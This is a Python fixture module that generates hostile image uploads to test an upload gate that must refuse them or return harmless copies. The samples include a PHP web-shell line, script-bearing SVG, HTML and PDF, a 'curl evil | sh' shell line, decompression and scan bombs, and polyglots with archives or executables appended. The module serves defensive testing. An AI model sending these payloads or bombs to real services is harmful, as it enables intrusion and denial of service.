"""Files that nobody should be able to hand in, or that must come out harmless. Made by code, the same bytes each time."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import msgspec
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

PAYLOAD = b"EVIL-PAYLOAD-7f3a"
"""In every sample that hides something: no shown copy may contain it."""
PHP = b"<?php system($_GET['c']); // " + PAYLOAD + b" ?>"
SCRIPT = b"<script>alert('" + PAYLOAD + b"')</script>"
SIZE = (360, 640)
BOMB_SIDE = 60_000
SCANS = 300
MIB = 1024 * 1024


class Sample(msgspec.Struct, frozen=True, kw_only=True):
    """One hostile file, and what it tries."""

    name: str
    data: bytes
    why: str
    accepted: bool = False
    """Whether a harmless copy comes out; if not, the gate refuses."""
    flag: str = ""
    """What `open_picture` must say about it."""


def samples() -> Iterator[Sample]:
    """All of them."""
    yield from _wrong_kinds()
    yield from _bombs()
    yield from _liars()
    yield from _stowaways()
    yield from _oddities()
    yield from _phone_formats()


def _wrong_kinds() -> Iterator[Sample]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    kinds = {
        "empty": (b"", "nothing at all"),
        "svg": (b'<?xml version="1.0"?>' + svg, "a picture that runs scripts"),
        "svg-after-spaces": (b"\xef\xbb\xbf \n\t" + svg, "a byte order mark and spaces before it"),
        "svg-after-comment": (b"<!-- " + b"-" * 300 + b" -->" + svg, "a comment before it"),
        "svg-in-utf16": (("\ufeff" + svg.decode("ascii")).encode("utf-16-le"), "an encoding that scanners overlook"),
        "svg-with-doctype": (b'<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + svg, "entities that grow"),
        "svg-gzipped": (b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(svg)[2:-4], "svgz"),
        "html": (b"<!DOCTYPE html><html>" + SCRIPT + b"</html>", "a page"),
        "html-before-png": (b"<html>" + SCRIPT + b"</html>" + _png(), "a page with a picture behind it"),
        "html-named-gif": (b"GIF89a/*" + SCRIPT + b"*/=1;", "GIF and JavaScript at once"),
        "pdf": (b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "a document that acts"),
        "pdf-after-rubbish": (b"\0" * 600 + b"%PDF-1.4", "readers look for it in the first kilobyte"),
        "eps": (b"%!PS-Adobe-3.0 EPSF-3.0\n(r) file", "PostScript"),
        "rtf": (rb"{\rtf1 {\object}}", "a document"),
        "word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "an old Office file"),
        "gif": (_encoded(_page(), "GIF"), "a kind that is not taken"),
        "gif-animated": (_moving("GIF"), "a moving picture"),
        "webp-animated": (_moving("WEBP"), "a moving picture"),
        "apng": (_moving("PNG"), "a moving picture"),
        "tiff": (_encoded(_page(), "TIFF"), "a kind that is not taken"),
        "bmp": (_encoded(_page(), "BMP"), "a kind that is not taken"),
        "ico": (_encoded(_page(), "ICO"), "a kind that is not taken"),
        "exe-named-jpg": (b"MZ\x90\0\3" + b"\0" * 300, "a program"),
        "elf-named-png": (b"\x7fELF\2\1\1" + b"\0" * 300, "a program"),
        "shell": (b"#!/bin/sh\ncurl evil | sh\n", "a program"),
        "zip-bomb-named-png": (_zip_bomb(), "42 kB that grow to 50 MB"),
        "mp4-named-jpg": (b"\0\0\0\x18ftypisom\0\0\2\0isommp42" + b"\0" * 200, "a video where pictures are taken"),
        "nul-bytes": (b"\0" * 5000, "nothing but zeros"),
    }
    for name, (data, why) in kinds.items():
        yield Sample(name=name, data=data, why=why)


def _bombs() -> Iterator[Sample]:
    whole = zlib.compress(b"\0" * 4 * MIB, 9)
    yield Sample(
        name="png-60000x60000",
        data=_png_of(_header(BOMB_SIDE, BOMB_SIDE), ((b"IDAT", whole),)),
        why="10 GB of pixels in 4 kB",
    )
    yield Sample(
        name="png-8x900000", data=_png_of(_header(8, 900_000), ((b"IDAT", whole),)), why="allowed pixels, absurd shape"
    )
    yield Sample(
        name="jpeg-65535x65535", data=_jpeg_with_size(_jpeg(), 65_535, 65_535), why="a header that asks for 12 GB"
    )
    yield Sample(
        name="webp-16383x16383",
        data=_webp_with_size(_encoded(_page(), "WEBP"), 16_383, 16_383),
        why="a header that asks for 800 MB",
    )
    bomb = zlib.compress(b"\0" * 64 * MIB, 9)
    yield Sample(
        name="png-ztxt-bomb",
        data=_png_of(_header(*SIZE), ((b"zTXt", b"Comment\0\0" + bomb), (b"IDAT", _rows()))),
        why="64 MB of text in 64 kB",
    )
    yield Sample(
        name="png-iccp-bomb",
        data=_png_of(_header(*SIZE), ((b"iCCP", b"x\0\0" + bomb), (b"IDAT", _rows()))),
        why="64 MB of colour profile in 64 kB",
    )
    yield Sample(
        name="png-100-texts",
        data=_png_of(
            _header(*SIZE), (*((b"zTXt", b"k\0\0" + zlib.compress(b"a" * MIB)) for _ in range(100)), (b"IDAT", _rows()))
        ),
        why="each text within its bound, all together not",
    )
    yield Sample(name="jpeg-scan-bomb", data=_scan_bomb(), why="a progressive JPEG whose pixels are refined 300 times")
    yield Sample(
        name="jpeg-30000-comments",
        data=(jpeg := _jpeg())[:20] + b"\xff\xfe\0\3x" * 30_000 + jpeg[20:],
        why="more parts than anybody walks through, to hide what comes after them",
    )
    yield Sample(
        name="png-many-idats",
        data=_png_of(_header(*SIZE), tuple((b"IDAT", bytes([byte])) for byte in _rows())),
        why="a chunk for every byte",
        accepted=True,
    )


def _liars() -> Iterator[Sample]:
    png, jpeg, webp = _png(), _jpeg(), _encoded(_page(), "WEBP")
    yield Sample(
        name="png-lying-size", data=_png_of(_header(6000, 6000), ((b"IDAT", _rows()),)), why="fewer rows than it says"
    )
    yield Sample(
        name="png-nought-wide", data=_png_of(_header(0, 500), ((b"IDAT", _rows()),)), why="a width that is not allowed"
    )
    yield Sample(
        name="png-negative", data=_png_of(_header(0x8000_0000, 500), ((b"IDAT", _rows()),)), why="a width below nought"
    )
    at = png.index(b"IDAT") + 20
    yield Sample(name="png-wrong-crc", data=png[:at] + bytes([png[at] ^ 255]) + png[at + 1 :], why="changed pixels")
    yield Sample(name="jpeg-named-png", data=jpeg, why="content decides, not the name", accepted=True)
    for name, data in (("png", png), ("jpeg", jpeg), ("webp", webp)):
        yield Sample(name=f"{name}-truncated", data=data[: len(data) // 2], why="half a file")
        yield Sample(name=f"{name}-head-only", data=data[:24], why="a head without a body")
    yield Sample(name="jpeg-thumbnail-lies", data=_lying_thumbnail(), why="EXIF shows another picture", accepted=True)
    yield Sample(
        name="jpeg-orientation-99", data=_with_exif({0x0112: 99}), why="a turn that does not exist", accepted=True
    )
    exif = _with_exif({0x0112: 6, 0x010F: "PHONE"})
    place = exif.index(b"Exif\0\0") + 6
    yield Sample(
        name="jpeg-exif-loop",
        data=exif[:place] + b"II*\0\x08\0\0\0\xff\xff" + exif[place + 10 :],
        why="65,535 entries that are not there",
        accepted=True,
    )


def _stowaways() -> Iterator[Sample]:
    png, jpeg, webp = _png(), _jpeg(), _encoded(_page(), "WEBP")
    archive = _zip()
    pdf = b"%PDF-1.7\n" + PAYLOAD + b"\n%%EOF"
    tails = (
        ("jpeg-zip", jpeg + archive, "polyglot_zip", "opens as an archive too"),
        ("png-zip", png + archive, "polyglot_zip", "opens as an archive too"),
        ("webp-zip", webp + archive, "polyglot_zip", "opens as an archive too"),
        ("jpeg-rar", jpeg + b"Rar!\x1a\x07\1\0" + PAYLOAD, "polyglot_rar", "opens as an archive too"),
        ("jpeg-7z", jpeg + b"7z\xbc\xaf\x27\x1c" + PAYLOAD, "polyglot_7z", "opens as an archive too"),
        ("jpeg-html-tail", jpeg + b"<html>" + SCRIPT, "polyglot_html", "a browser that guesses would run it"),
        ("png-pdf-tail", png + pdf, "polyglot_pdf", "opens as a document too"),
        ("png-exe-tail", png + b"MZ\x90\0" + PAYLOAD, "polyglot_program", "a dropper's luggage"),
        ("webp-elf-tail", webp + b"\x7fELF" + PAYLOAD, "polyglot_program", "a dropper's luggage"),
        ("jpeg-video-tail", jpeg + b"\0\0\0\x18ftypmp42" + PAYLOAD, "video_in_tail", "a live photo's sound"),
        ("jpeg-second-jpeg", jpeg + PAYLOAD + jpeg, "trailing_data", "a second picture behind the first"),
    )
    for name, data, flag, why in tails:
        yield Sample(name=name, data=data, why=why, accepted=True, flag=flag)
    notes = (
        ("jpeg-php-comment", _jpeg(comment=PHP), "script_in_comment", "Pillow keeps comments unless it is prevented"),
        ("jpeg-zip-in-comment", _jpeg(comment=archive), "polyglot_zip", "an archive inside the picture"),
        ("jpeg-js-comment", _jpeg(comment=b"*/=1;eval('" + PAYLOAD + b"')//"), "script_in_comment", "runs as a script"),
        ("jpeg-exif-script", _with_exif({0x010E: SCRIPT.decode()}), "script_in_comment", "a description that acts"),
        ("jpeg-xmp-script", _jpeg(xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"), "script_in_comment", "XMP that acts"),
        ("png-text-script", _png(told=SCRIPT.decode()), "script_in_comment", "a text chunk that acts"),
        (
            "png-text-php-packed",
            _png(told=PHP.decode(), packed=True),
            "script_in_comment",
            "packed, so scanners miss it",
        ),
        ("png-js", _png_with(b"jsCd", b"/*" + SCRIPT), "script_in_comment", "an unknown chunk that acts"),
        ("webp-xmp-php", _encoded(_page(), "WEBP", xmp=PHP), "script_in_comment", "XMP that acts"),
    )
    for name, data, flag, why in notes:
        yield Sample(name=name, data=data, why=why, accepted=True, flag=flag)
    yield Sample(name="jpeg-gps", data=_with_place(), why="tells where the buyer lives", accepted=True)


def _oddities() -> Iterator[Sample]:
    page = _page()
    yield Sample(name="jpeg-cmyk", data=_encoded(page.convert("CMYK"), "JPEG"), why="four colours", accepted=True)
    grey = Image.new("I;16", (200, 200), 30_000)
    grey.paste(0, (50, 50, 120, 120))
    yield Sample(name="png-16-bit", data=_encoded(grey, "PNG"), why="16 bits a pixel", accepted=True)
    yield Sample(
        name="png-hidden-by-alpha", data=_hidden_by_alpha(), why="black and white viewers differ", accepted=True
    )
    palette = page.convert("P", palette=Image.Palette.ADAPTIVE, colors=16)
    yield Sample(
        name="png-palette-alpha",
        data=_encoded(palette, "PNG", transparency=bytes(range(16))),
        why="a palette with 16 kinds of transparency",
    )
    yield Sample(
        name="png-short-palette",
        data=_png_of(
            _header(*SIZE, kind=3), ((b"PLTE", b"\0\0\0"), (b"IDAT", zlib.compress((b"\0" + b"\xff" * 360) * 640)))
        ),
        why="colours that are not in the palette",
    )
    yield Sample(
        name="jpeg-huge-icc",
        data=_encoded(page, "JPEG", icc_profile=PAYLOAD + b"\0" * 2 * MIB),
        why="2 MB of colour profile",
        accepted=True,
    )
    yield Sample(name="blank", data=_encoded(Image.new("RGB", (1080, 2340), "white"), "PNG"), why="nothing on it")
    yield Sample(name="thumbnail", data=_encoded(page.resize((64, 113)), "JPEG"), why="nobody could read it")
    yield Sample(name="too-many-bytes", data=_jpeg() + b"\0" * 13 * MIB, why="over the limit")


def _phone_formats() -> Iterator[Sample]:
    head = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"
    avif = _encoded(_page(), "AVIF")
    yield Sample(name="heic-head-only", data=head, why="a head without a body")
    yield Sample(name="heic-rubbish", data=head + b"\xff" * 2000, why="boxes that make no sense")
    yield Sample(
        name="heic-endless-box", data=head + b"\0\0\0\1meta" + b"\xff" * 8 + b"\0" * 200, why="a box of 16 exabytes"
    )
    deep = b"".join(struct.pack(">I4s", 8 * (2000 - level), b"moov") for level in range(2000))
    yield Sample(name="heic-deep-boxes", data=head + deep, why="2,000 boxes inside each other")
    yield Sample(name="avif-truncated", data=avif[: len(avif) // 2], why="half a file")
    yield Sample(name="avif-zip", data=avif + _zip(), why="opens as an archive too", accepted=True, flag="polyglot_zip")
    yield Sample(name="avif-as-heic", data=avif.replace(b"ftypavif", b"ftypheic", 1), why="the wrong decoder")


def _page() -> Image.Image:
    """A small page with enough on it to be a picture."""
    page = Image.new("RGB", SIZE, "white")
    pen = ImageDraw.Draw(page)
    pen.rectangle((0, 0, SIZE[0], 60), fill="#1d4ed8")
    for top in range(100, SIZE[1] - 40, 40):
        pen.text((20, top), f"paid {top}.00 order 20261124{top}", fill="black")
    return page


def _encoded(picture: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _jpeg(**options: object) -> bytes:
    return _encoded(_page(), "JPEG", **options)


def _png(*, told: str = "", packed: bool = False) -> bytes:
    if not told:
        return _encoded(_page(), "PNG")
    info = PngInfo()
    info.add_text("Comment", told, zip=packed)
    return _encoded(_page(), "PNG", pnginfo=info)


def _png_with(kind: bytes, body: bytes) -> bytes:
    png = _png()
    return png[:33] + _chunk(kind, body) + png[33:]


def _moving(kind: str) -> bytes:
    other = _page().transpose(Image.Transpose.FLIP_TOP_BOTTOM)
    return _encoded(_page(), kind, save_all=True, append_images=[other], duration=200)


def _with_exif(tags: dict[int, int | str]) -> bytes:
    exif = Image.Exif()
    for tag, value in tags.items():
        exif[tag] = value
    return _jpeg(exif=exif)


def _with_place() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = PAYLOAD.decode()
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (39.0, 54.0, 20.0)
    return _jpeg(exif=exif)


def _lying_thumbnail() -> bytes:
    """A JFIF extension with a thumbnail of something else."""
    jpeg = _jpeg()
    small = _encoded(Image.new("RGB", (40, 40), "red"), "JPEG", comment=PAYLOAD)
    body = b"JFXX\0\x10" + small
    return jpeg[:20] + b"\xff\xe0" + struct.pack(">H", len(body) + 2) + body + jpeg[20:]


def _hidden_by_alpha() -> bytes:
    picture = _page().convert("RGBA")
    ImageDraw.Draw(picture).rectangle((20, 300, 340, 400), fill=(0, 0, 0, 0))
    return _encoded(picture, "PNG")


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("evil.html", (2026, 1, 1, 0, 0, 0)), SCRIPT)
    return out.getvalue()


def _zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("zeros", (2026, 1, 1, 0, 0, 0)), b"\0" * 50 * MIB, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _scan_bomb() -> bytes:
    """The last scan of a large progressive JPEG, again and again: a few bytes each, and a pass over all pixels."""
    page = Image.new("RGB", (5000, 7000), "white")
    page.paste(_page())
    jpeg = _encoded(page, "JPEG", progressive=True)
    last = jpeg.rindex(b"\xff\xda")
    return jpeg[:last] + jpeg[last:-2] * SCANS + jpeg[-2:]


def _jpeg_with_size(jpeg: bytes, width: int, height: int) -> bytes:
    at = jpeg.index(b"\xff\xc0") + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def _webp_with_size(webp: bytes, width: int, height: int) -> bytes:
    at = webp.index(b"\x9d\x01\x2a") + 3
    return webp[:at] + struct.pack("<HH", width, height) + webp[at + 4 :]


def _header(width: int, height: int, *, kind: int = 2) -> bytes:
    return struct.pack(">IIBBBBB", width, height, 8, kind, 0, 0, 0)


def _rows() -> bytes:
    return zlib.compress(
        b"".join(b"\0" + bytes((row + column) % 251 for column in range(SIZE[0] * 3)) for row in range(SIZE[1]))
    )


def _png_of(header: bytes, chunks: tuple[tuple[bytes, bytes], ...]) -> bytes:
    body = b"".join(_chunk(kind, data) for kind, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + body + _chunk(b"IEND", b"")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
